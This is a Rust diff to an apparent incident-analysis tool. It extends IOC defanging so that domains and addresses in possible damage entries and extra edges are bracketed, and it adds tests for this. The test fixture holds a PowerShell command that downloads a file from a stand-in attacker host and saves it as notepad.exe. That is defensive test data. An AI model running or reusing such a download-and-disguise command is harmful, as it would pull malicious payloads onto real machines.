@@ -9,7 +9,9 @@ use super::Traced;
 /// The domains that a chain names.
 #[must_use]
 pub fn known(chain: &Chain) -> Known {
-    Known::names_of(chain.damage.domains.iter().cloned())
+    let possible = chain.possible.iter().map(|of| &of.damage);
+    let all = std::iter::once(&chain.damage).chain(possible);
+    Known::names_of(all.flat_map(|damage| damage.domains.iter().cloned()).collect::<Vec<_>>())
 }
 
 /// Changes all that a chain shows.
@@ -18,16 +20,19 @@ pub fn chain(traced: &mut Traced) {
     for node in &mut traced.chain.nodes {
         node.command_line = node.command_line.take().map(|text| known.text(&text));
     }
-    for edge in &mut traced.chain.edges {
+    let led_by = traced.chain.led_by.iter_mut().flat_map(|lead| &mut lead.edges);
+    for edge in traced.chain.edges.iter_mut().chain(led_by) {
         edge.reason = known.text(&edge.reason);
     }
-    let damage = &mut traced.chain.damage;
-    for text in damage.files.iter_mut().chain(&mut damage.registry) {
-        *text = known.text(text);
-    }
-    for (kind, values) in [("address", &mut damage.addresses), ("domain", &mut damage.domains)] {
-        for value in values {
-            *value = known.value(kind, value);
+    let possible = traced.chain.possible.iter_mut().map(|of| &mut of.damage);
+    for damage in std::iter::once(&mut traced.chain.damage).chain(possible) {
+        for text in damage.files.iter_mut().chain(&mut damage.registry) {
+            *text = known.text(text);
+        }
+        for (kind, values) in [("address", &mut damage.addresses), ("domain", &mut damage.domains)] {
+            for value in values {
+                *value = known.value(kind, value);
+            }
         }
     }
     for alert in traced.alerts.values_mut() {
@@ -69,6 +74,9 @@ mod tests {
         traced.chain.nodes[1].command_line =
             Some("powershell iwr http://evil.example/a -o notepad.exe".into());
         traced.chain.edges[1].reason = "asked cdn.evil.example".into();
+        traced.chain.possible[0].damage.addresses = vec!["198.51.100.9:80".into()];
+        traced.chain.possible[0].damage.domains = vec!["worse.example".into()];
+        traced.chain.edges[2].reason = "asked worse.example".into();
         chain(&mut traced);
         let of = &traced.chain;
         let line = of.nodes[1].command_line.as_deref();
@@ -76,6 +84,9 @@ mod tests {
         assert_eq!(of.edges[1].reason, "asked cdn[.]evil[.]example");
         assert_eq!(of.damage.addresses, ["203[.]0[.]113[.]7[:]443"]);
         assert_eq!(of.damage.domains, ["evil[.]example"]);
+        assert_eq!(of.possible[0].damage.addresses, ["198[.]51[.]100[.]9[:]80"]);
+        assert_eq!(of.possible[0].damage.domains, ["worse[.]example"]);
+        assert_eq!(of.edges[2].reason, "asked worse[.]example");
         assert_eq!(of.damage.files[0], "C:\\Users\\anna\\00.locked");
         let all = crate::chain::text::of(&traced);
         assert!(!all.contains("10.0.0.9") && all.contains("notepad.exe 4300"), "{all}");
